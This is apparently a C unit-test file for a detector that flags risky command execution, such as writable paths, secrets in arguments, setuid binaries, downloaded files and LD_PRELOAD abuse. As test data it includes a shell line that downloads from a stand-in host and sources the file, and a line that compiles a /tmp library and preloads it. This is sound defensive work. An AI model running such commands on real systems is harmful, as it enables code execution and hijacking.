/* test_command_execution.c: R3, each rule with a hit and the nearest miss. */
#include <sys/stat.h>
#include "facts.h"

static struct path_step step[3];

/* /srv/bin/tool, or /tmp/d/tool when sticky: modes and owners of the three steps. */
static struct process *tool(void)
{
	struct process *p = process_new("tool", 0, ARGV("tool"));

	step[0] = (struct path_step){ S_IFDIR | 0755, 0, 0 };
	step[1] = (struct path_step){ S_IFDIR | 0755, 0, 0 };
	step[2] = (struct path_step){ S_IFREG | 0755, 1000, 1000 };
	p->exe = (struct path){ .text = (char *)"/srv/bin/tool", .step = step, .steps = 3 };
	return p;
}

static void run_it(const struct process *p)
{
	exec_look(&detect_command_execution, p);
}

static void every_program_is_evidence(void **s)
{
	(void)s;
	run_it(tool());
	check_hit("R3.1");
	assert_int_equal(report.n, 1);
	assert_string_equal(report.at[0].subject.ptr, "/srv/bin/tool");
}

static void a_file_or_directory_that_others_can_change(void **s)
{
	struct process *p = tool();

	(void)s;
	step[2].mode |= 02;
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv/bin/tool");
	tool();
	step[1].mode |= 02;
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv/bin");
	assert_non_null(strstr(found("R3.2")->evidence.ptr, "0757"));
	tool();
	step[0].uid = 1001;
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv");
}

static void a_sticky_directory_protects_what_others_do_not_own(void **s)
{
	struct process *p = tool();

	(void)s;
	step[0].mode = S_IFDIR | 01777;
	run_it(p);
	check_miss("R3.2");
	step[1].uid = 1000;
	run_it(p);
	check_miss("R3.2");
	step[1].uid = 1001;
	run_it(p);
	check_hit("R3.2");
	step[1].uid = 0;
	step[0].uid = 1001;
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv");
}

static void nobody_else_changes_what_lies_in_a_closed_directory(void **s)
{
	struct process *p = tool();

	(void)s;
	step[0] = (struct path_step){ S_IFDIR | 0700, 1000, 1000 };
	step[1].mode = S_IFDIR | 0777;
	step[2].mode = S_IFREG | 0777;
	run_it(p);
	check_miss("R3.2");
	step[0].mode = S_IFDIR | 0701;
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv/bin");
	step[0] = (struct path_step){ S_IFDIR | 0700, 1001, 1001 };
	run_it(p);
	check_hit("R3.2");
	assert_string_equal(found("R3.2")->subject.ptr, "/srv");
	/* A closed directory is of no help to one before it. */
	step[0] = (struct path_step){ S_IFDIR | 0777, 0, 0 };
	step[1].mode = S_IFDIR | 0700;
	run_it(p);
	check_hit("R3.2");
}

static void argued(const char *name, const char *const *argv)
{
	run_it(process_new(name, 0, argv));
}

static void an_operand_of_an_option_named_like_a_secret(void **s)
{
	struct process *p;

	(void)s;
	argued("tool", ARGV("tool", "--password=correct-horse-battery"));
	check_hit("R3.4");
	argued("tool", ARGV("tool", "--passport=correct-horse-battery"));
	check_miss("R3.4");
	argued("tool", ARGV("tool", "--password", "s3cr3t"));
	check_hit("R3.4");
	argued("tool", ARGV("tool", "--password=s3cr3t"));
	check_hit("R3.4");
	argued("tool", ARGV("tool", "--password=xxxx"));
	check_miss("R3.4");
	argued("tool", ARGV("tool", "--password=$PASSWORD"));
	check_miss("R3.4");
	argued("docker", ARGV("docker", "run", "-e", "DB_PASSWORD=hunter2hunter2", "img"));
	check_hit("R3.4");
	argued("docker", ARGV("docker", "run", "-e", "DB_PASSWORD", "img"));
	check_miss("R3.4");
	argued("docker", ARGV("docker", "run", "-p", "8080:80", "img"));
	check_miss("R3.4");
	argued("tool", ARGV("tool", "http://u:s3cr3t@h/"));
	check_hit("R3.4");
	/* A step's text is the Dockerfile's: R6.9. */
	p = process_new("sh", 0, ARGV("sh", "-c", "tool --password=s3cr3t-as-ever"));
	p->flags = 0;
	run_it(p);
	check_hit("R3.4");
	p->flags = EXEC_STEP;
	run_it(p);
	check_miss("R3.4");
	/* Bytes as a mask has them, which nobody masked: a name in Latin-1, an UTF-16 mark. */
	argued("tool", ARGV("tool", "na\xffve",
			    "\xff\xfe"
			    "a",
			    "dir/\xff.txt"));
	check_miss("R3.4");
	argued("tool", ARGV("tool", "\xff=", "--title=a\xff"));
	check_miss("R3.4");
}

static void a_value_never_stands_in_evidence(void **s)
{
	(void)s;
	argued("tool", ARGV("tool", "--password=correct-horse-battery"));
	for (unsigned i = 0; i < report.n; i++) {
		assert_null(strstr(report.at[i].evidence.ptr, "horse"));
		assert_null(
			strstr(report.at[i].subject.ptr ? report.at[i].subject.ptr : "", "horse"));
	}
}

static void a_token_in_the_middle_of_an_argument(void **s)
{
	(void)s;
	argued("curl", ARGV("curl", "-H", "X: AKIAIOSFODNN7EXAMPLZ", "http://x"));
	check_hit("R3.4");
	assert_string_equal(found("R3.4")->evidence.ptr, "argument 2 of curl holds token:aws");
	process.argc = 2; /* the rest is no argument of its */
	run_it(&process);
	check_miss("R3.4");
	argued("curl", ARGV("curl", "-H", "X: AKIAIOSFO", "http://x"));
	check_miss("R3.4");
}

static void a_program_without_a_file(void **s)
{
	struct process *p = tool();

	(void)s;
	p->flags = EXEC_MEMFD;
	run_it(p);
	check_hit("R3.10");
	p->flags = EXEC_DELETED;
	run_it(p);
	check_hit("R3.10");
	p->roles = ROLE_RUNTIME;
	run_it(p);
	check_miss("R3.10");
	p->roles = 0;
	p->flags = EXEC_THREAD;
	run_it(p);
	check_miss("R3.10");
}

static void a_program_found_by_an_unsafe_entry_of_path(void **s)
{
	struct process *p = process_new("tool", 0, ARGV("tool"));

	(void)s;
	p->exe = tool()->exe;
	p->argc = 1;
	p->file = (char *)"bin/tool";
	p->path_entry = 2;
	run_it(p);
	check_hit("R3.3");
	p->path_entry = 0;
	run_it(p);
	check_miss("R3.3");
	p->path_entry = 2;
	p->file = (char *)"/srv/bin/tool";
	run_it(p);
	check_miss("R3.3");
	step[1].mode |= 02;
	run_it(p);
	check_hit("R3.3");
	assert_string_equal(found("R3.3")->subject.ptr, "/srv/bin");
	/* Not searched for: called by its path. */
	p = process_new("tool", 0, ARGV("/srv/bin/tool"));
	p->exe = (struct path){ .text = (char *)"/srv/bin/tool", .step = step, .steps = 3 };
	p->file = (char *)"/srv/bin/tool";
	p->path_entry = 2;
	run_it(p);
	check_miss("R3.3");
	p->name = (char *)"busybox"; /* argv[0] is another program's: nothing is known of it */
	run_it(p);
	check_hit("R3.3");
}

static void a_program_that_gives_privilege(void **s)
{
	struct process *p = tool();

	(void)s;
	step[2] = (struct path_step){ S_IFREG | 04755, 0, 0 };
	p->uid = 1000;
	run_it(p);
	check_miss("R3.5"); /* by the superuser, or on a file system without set-id */
	p->flags = EXEC_GAINS;
	run_it(p);
	check_hit("R3.5");
	assert_non_null(strstr(found("R3.5")->evidence.ptr, "4755"));
	step[2].mode = S_IFREG | 02755;
	run_it(p);
	check_miss("R3.5"); /* the superuser's group */
	p->euid = 1000;
	run_it(p);
	check_hit("R3.5");
	assert_non_null(strstr(found("R3.5")->evidence.ptr, "2755"));
	step[2].mode = S_IFREG | 0755;
	run_it(p);
	check_hit("R3.5");
	assert_non_null(strstr(found("R3.5")->evidence.ptr, "capabilities"));
	argued("unshare", ARGV("unshare", "-n", "true"));
	check_hit("R3.5");
	argued("setsid", ARGV("setsid", "true"));
	check_miss("R3.5");
}

static void look_at(enum fact_kind kind, const struct written *w)
{
	struct fact f = { .kind = kind, .run = &run, .process = tool() };

	if (kind == FACT_SCRIPT) {
		f.file.path = process.exe;
		f.file.origin = w;
	} else {
		f.exec.origin = w;
	}
	report_reset(&report);
	detect_command_execution.look(&f, &report);
}

static void a_file_that_came_over_the_network(void **s)
{
	struct written w = { .origins = ORIGIN_NETWORK, .writer = (char *)"curl" };

	(void)s;
	look_at(FACT_EXEC, &w);
	check_hit("R3.6");
	look_at(FACT_SCRIPT, &w);
	check_hit("R3.6");
	w.origins = ORIGIN_DECODER;
	look_at(FACT_EXEC, &w);
	check_miss("R3.6");
	look_at(FACT_EXEC, NULL);
	check_miss("R3.6");
	w.origins = ORIGIN_NETWORK;
	parent.name = (char *)"pip";
	look_at(FACT_EXEC, &w);
	check_miss("R3.6");
	parent.name = (char *)"python3";
}

static void a_script_that_others_can_change(void **s)
{
	(void)s;
	look_at(FACT_SCRIPT, NULL);
	assert_int_equal(report.n, 0);
	process.parent = NULL;
	struct fact f = { .kind = FACT_SCRIPT, .run = &run, .process = tool() };

	step[2].mode = S_IFREG | 0666;
	f.file.path = process.exe;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_hit("R3.2");
	assert_non_null(strstr(found("R3.2")->evidence.ptr, "the script"));
}

static void a_script_found_by_an_entry_of_path_that_others_can_write(void **s)
{
	static struct path_step way[3];
	struct process *p = process_new("sh", ROLE_SHELL, ARGV("/bin/sh", "/srv/bin/tool"));
	struct fact f = { .kind = FACT_SCRIPT, .run = &run, .process = p };

	(void)s;
	memcpy(way, tool()->exe.step, sizeof(way));
	p = process_new("sh", ROLE_SHELL, ARGV("/bin/sh", "/srv/bin/tool"));
	p->file = (char *)"/srv/bin/tool";
	p->path_entry = 2;
	f.file.path = (struct path){ .text = (char *)"/srv/bin/tool", .step = way, .steps = 3 };
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_miss("R3.3");
	way[1].mode |= 02;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_hit("R3.3");
	assert_string_equal(found("R3.3")->subject.ptr, "/srv/bin");
	/* The interpreter was found so, the script was given to it. */
	p->file = (char *)"/bin/sh";
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_miss("R3.3");
	check_hit("R3.2");
	/* By no entry of PATH. */
	p->file = (char *)"/srv/bin/tool";
	p->path_entry = 0;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_miss("R3.3");
}

static void a_start_up_variable_points_at_a_file_of_the_run(void **s)
{
	struct written w = { .path = (char *)"/dev/shm/x.so", .writer = (char *)"ld" };
	struct fact f = { .kind = FACT_EXEC, .run = &run, .process = tool() };

	(void)s;
	f.exec.variable = "LD_PRELOAD";
	f.exec.startup = &w;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_hit("R3.8");
	f.exec.startup = NULL;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
	check_miss("R3.8");
}

static void points_at(uint32_t file, uint32_t dir, uint32_t top)
{
	struct fact f = { .kind = FACT_FILE, .run = &run, .process = tool() };

	step[0].mode = S_IFDIR | top;
	step[1].mode = S_IFDIR | dir;
	step[2].mode = S_IFREG | file;
	f.file.action = FILE_STARTUP;
	f.file.variable = "LD_PRELOAD";
	f.file.path = process.exe;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
}

static void a_start_up_variable_points_at_what_others_can_change(void **s)
{
	(void)s;
	points_at(0755, 0755, 0755);
	assert_int_equal(report.n, 0);
	points_at(0666, 0755, 0755);
	check_hit("R3.8");
	assert_string_equal(found("R3.8")->evidence.ptr,
			    "LD_PRELOAD points tool at /srv/bin/tool, and others can change "
			    "/srv/bin/tool (mode 0666, owner 1000:1000)");
	points_at(0755, 0777, 0755);
	check_hit("R3.8");
	assert_non_null(strstr(found("R3.8")->evidence.ptr, "can change /srv/bin (mode 0777"));
	points_at(0755, 0755, 01777); /* root's directory in a sticky one */
	check_miss("R3.8");
	points_at(0755, 0755, 0777);
	check_hit("R3.8");
	assert_int_equal(report.n, 1);
}

static void a_shell_reads_a_download_into_itself(void **s)
{
	(void)s;
	run_it(process_new("sh", ROLE_SHELL, ARGV("sh", "-c", "curl -so x http://h; . ./x")));
	check_hit("R3.6");
	run_it(process_new("sh", ROLE_SHELL, ARGV("sh", "-c", "curl -so x http://h; cat ./x")));
	check_miss("R3.6");
	run_it(process_new("tool", 0, ARGV("tool", "-c", "curl -so x http://h; . ./x")));
	check_miss("R3.6");
}

static bool cut; /* the path's beginning is not known */

static void written_under(const char *string, const char *path)
{
	struct fact f = { .kind = FACT_FILE, .run = &run };

	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", string));
	f.file.path.text = (char *)path;
	f.file.path.cut = cut;
	report_reset(&report);
	detect_command_execution.look(&f, &report);
}

static void a_shell_is_told_to_preload_what_is_written_below_it(void **s)
{
	(void)s;
	run.cwd = (char *)"/work";
	written_under("cc -o /tmp/x.so x.c && LD_PRELOAD=/tmp/x.so true", "/tmp/x.so");
	check_hit("R3.8");
	written_under("cc -o /tmp/x.so x.c && LD_PRELOAD=\"/tmp/x.so\" true", "/tmp/x.so");
	check_hit("R3.8");
	written_under("cc -o /tmp/x.so x.c && LD_PRELOAD=/tmp/y.so true", "/tmp/x.so");
	check_miss("R3.8");
	written_under("cc -o /work/x.so x.c && LD_PRELOAD=/work/x.so true", "/work/x.so");
	check_miss("R3.8");
	written_under("cc -o /tmp/x.so x.c", "/tmp/x.so");
	check_miss("R3.8");
	cut = true;
	written_under("cc -o /tmp/x.so x.c && LD_PRELOAD=/tmp/x.so true", "/tmp/x.so");
	check_miss("R3.8");
	cut = false;
	run.cwd = NULL;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_program_is_evidence),
		cmocka_unit_test(a_file_or_directory_that_others_can_change),
		cmocka_unit_test(a_sticky_directory_protects_what_others_do_not_own),
		cmocka_unit_test(nobody_else_changes_what_lies_in_a_closed_directory),
		cmocka_unit_test(an_operand_of_an_option_named_like_a_secret),
		cmocka_unit_test(a_value_never_stands_in_evidence),
		cmocka_unit_test(a_token_in_the_middle_of_an_argument),
		cmocka_unit_test(a_program_without_a_file),
		cmocka_unit_test(a_program_found_by_an_unsafe_entry_of_path),
		cmocka_unit_test(a_program_that_gives_privilege),
		cmocka_unit_test(a_file_that_came_over_the_network),
		cmocka_unit_test(a_script_that_others_can_change),
		cmocka_unit_test(a_script_found_by_an_entry_of_path_that_others_can_write),
		cmocka_unit_test(a_start_up_variable_points_at_a_file_of_the_run),
		cmocka_unit_test(a_start_up_variable_points_at_what_others_can_change),
		cmocka_unit_test(a_shell_reads_a_download_into_itself),
		cmocka_unit_test(a_shell_is_told_to_preload_what_is_written_below_it),
	};

	return FACT_TESTS(tests);
}
